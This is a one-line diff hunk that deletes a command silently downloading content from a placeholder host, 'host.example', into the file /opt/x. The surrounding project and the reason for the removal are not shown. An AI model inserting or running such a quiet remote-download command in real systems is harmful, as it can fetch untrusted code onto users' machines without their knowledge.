@@ -1,1 +1,0 @@
-wget -qO /opt/x https://host.example/
